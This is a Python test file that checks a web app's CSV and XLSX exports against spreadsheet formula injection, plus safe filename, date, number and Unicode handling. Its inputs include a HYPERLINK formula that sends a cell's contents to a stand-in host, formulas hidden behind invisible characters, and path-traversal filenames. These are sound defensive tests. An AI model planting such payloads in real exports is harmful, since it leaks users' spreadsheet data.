"""What is taken away as a file opens as what it says: text is text, numbers are numbers, nothing is a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from waymark.web.exporting import Cell, csv_response, xlsx_response

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
)


def csv_rows(*rows: tuple[Cell, ...]) -> list[list[str]]:
    answer = csv_response("cases", ["a", "b"], rows)
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))[1:]


def xlsx_rows(*rows: tuple[Cell, ...]) -> Sequence[Sequence[object]]:
    answer = xlsx_response("cases", ["a", "b"], rows)
    return CalamineWorkbook.from_filelike(io.BytesIO(answer.content)).get_sheet_by_index(0).to_python()[1:]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_that_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_rows((text, "plain")) == [[f"'{text}", "plain"]]


def test_a_header_that_could_be_a_formula_gets_an_apostrophe_too() -> None:
    answer = csv_response("cases", ["=1+1"], [])
    assert answer.content.decode("utf-8-sig") == "'=1+1\r\n"


@given(st.text(max_size=40))
def test_no_text_begins_a_formula_in_a_csv(text: str) -> None:
    ((first, _),) = csv_rows((text, "x"))
    assert not first.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_workbook_holds_no_formula(text: str) -> None:
    answer = xlsx_response("cases", [text], [(text,)])
    with zipfile.ZipFile(io.BytesIO(answer.content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet


def test_numbers_stay_numbers_and_nothing_stays_nothing() -> None:
    assert csv_rows((-3, 2.5), (None, 0)) == [["-3", "2.5"], ["", "0"]]
    assert xlsx_rows((-3, 2.5), (None, 0)) == [[-3.0, 2.5], ["", 0.0]]


def test_text_of_digits_stays_text() -> None:
    """A case number such as 00117 keeps its noughts."""
    assert xlsx_rows(("00117", "1e5")) == [["00117", "1e5"]]


def test_dates_and_moments_are_such_in_utc() -> None:
    day, moment = date(2013, 10, 14), datetime(2013, 10, 14, 9, 42, 7, tzinfo=UTC)
    assert csv_rows((day, moment)) == [["2013-10-14", "2013-10-14 09:42:07"]]
    assert xlsx_rows((day, moment)) == [[day, moment.replace(tzinfo=None)]]


def test_excel_knows_the_letters_of_a_csv() -> None:
    content = csv_response("cases", ["Größe"], [("naïve",)]).content
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "Größe\r\nnaïve\r\n"


def test_text_too_long_for_excel_is_cut_and_says_so() -> None:
    ((cut, _),) = xlsx_rows(("x" * 40_000, "short"))
    assert len(str(cut)) == 32_767
    assert str(cut).endswith(" […]")


@pytest.mark.parametrize(
    ("name", "file"), [("cases", "cases.csv"), ('a"b\r\nc/../d', "a-b-c-..-d.csv"), ("../", "export.csv")]
)
def test_the_file_is_called_plainly(name: str, file: str) -> None:
    answer = csv_response(name, ["a"], [])
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{file}"'


@pytest.mark.parametrize("before", ["\u3000", "\u200b", "\ufeff", "\x00", "\u2028", " \u00ad"])
def test_a_sign_that_is_not_seen_hides_no_formula(before: str) -> None:
    assert csv_rows((f"{before}=1+1", "plain")) == [[f"'{before}=1+1", "plain"]]


@pytest.mark.parametrize("day", [date(1899, 12, 31), date(1850, 1, 1), datetime(1850, 1, 1, tzinfo=UTC)])
def test_a_day_that_excel_does_not_know_is_text_and_not_midnight(day: date) -> None:
    ((told, _),) = xlsx_rows((day, 1))
    assert str(told).startswith(f"{day.year}-{day.month:02}-{day.day:02}")


def test_a_number_that_excel_would_round_is_text() -> None:
    assert xlsx_rows((2**53, 2**53 + 1)) == [[float(2**53), str(2**53 + 1)]]
    assert xlsx_rows((10**400, 1)) == [["1" + "0" * 400, 1.0]]


def test_half_a_character_from_a_broken_file_is_written_as_a_question_mark() -> None:
    assert csv_rows(("a\ud800", 1)) == [["a?", "1"]]
    assert xlsx_rows(("a\ud800", 1)) == [["a?", 1.0]]
